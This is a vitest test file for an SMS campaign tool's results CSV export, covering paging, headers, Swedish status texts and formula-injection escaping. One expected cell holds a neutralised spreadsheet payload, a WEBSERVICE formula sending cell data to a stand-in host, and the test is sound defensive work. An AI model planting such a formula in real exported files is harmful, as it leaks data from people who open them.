import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { openDatabase, type Db } from '../db/open';
import { Campaigns } from '../outbox/campaigns';
import { resultsCsv } from './resultsCsv';
import { EXPORT_CHUNK_ROWS } from './safeCsv';
import { HOSTILE, formulaCells } from './formulaCheck';

let dir: string;
let db: Db;
let campaigns: Campaigns;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'sms-outbox-results-'));
  db = openDatabase(dir);
  campaigns = new Campaigns(db, () => 1_700_000_000_000);
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function campaign(names: string[]): number {
  return campaigns.create({
    name: 'c',
    sender: 'Shop',
    message: 'Hi',
    tags: [],
    sendAt: null,
    fileName: null,
    fileHash: null,
    estimateCost: null,
    currency: null,
    recipients: names.map((name, i) => ({
      rowNo: i + 2,
      msisdn: String(4520000000 + i),
      country: 'DK',
      name,
      tagvalues: null,
      encoding: 'GSM7',
      parts: 1,
    })),
  }).campaignId;
}

describe('resultsCsv', () => {
  it('writes every recipient in order across pages, BOM, header, numbers bare and text quoted', async () => {
    const n = EXPORT_CHUNK_ROWS * 2 + 7;
    const id = campaign(Array.from({ length: n }, (_, i) => `Name ${i}`));
    const csv = await resultsCsv(campaigns, id);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      '"Row","Phone number","Name","State","Delivery status","What the status means","Status time","Error code","Reason","GatewayAPI\'s text","SMS parts"',
    );
    expect(lines[1]).toBe('2,"4520000000","Name 0","Queued","","","","","","",1');
    expect(lines).toHaveLength(n + 2);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data.slice(1);
    expect(rows.map((r) => Number(r[0]))).toEqual(Array.from({ length: n }, (_, i) => i + 2));
  });

  it("says states, statuses and reasons in the reader's language, GatewayAPI's own text beside ours", async () => {
    const id = campaign(['Anna']);
    const reason = {
      code: 'gw_blacklisted',
      numbers: ['4520000000'],
      httpStatus: 403,
      gwCode: '0x0215',
      original: 'Blacklisted recipient',
      incident: null,
    };
    db.prepare("UPDATE recipients SET state = 'failed', error_code = '0x0215', error = ? WHERE campaign_id = ?").run(
      JSON.stringify(reason),
      id,
    );
    const sv = Papa.parse<string[]>((await resultsCsv(campaigns, id, 'sv')).slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
    expect(sv[0]).toEqual([
      'Rad',
      'Telefonnummer',
      'Namn',
      'Läge',
      'Leveransstatus',
      'Vad statusen betyder',
      'Statustid',
      'Felkod',
      'Orsak',
      'GatewayAPI:s text',
      'SMS-delar',
    ]);
    expect(sv[1]?.slice(3, 10)).toEqual([
      'Misslyckat',
      '',
      '',
      '',
      '0x0215',
      'GatewayAPI nekade 4520000000: numret står på GatewayAPI:s spärrlista (HTTP 403, 0x0215).',
      'Blacklisted recipient',
    ]);
  });

  it('no cell starts a formula when read back split on "," or ";" (names and error texts)', async () => {
    const id = campaign(HOSTILE);
    db.prepare('UPDATE recipients SET error = name, error_code = name, state = ? WHERE campaign_id = ?').run('failed', id);
    const csv = await resultsCsv(campaigns, id);
    expect(formulaCells(csv)).toEqual([]);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data.slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows[0][2]).toBe('Hansen;\'=WEBSERVICE("http://x/?"&A1)');
  });
});
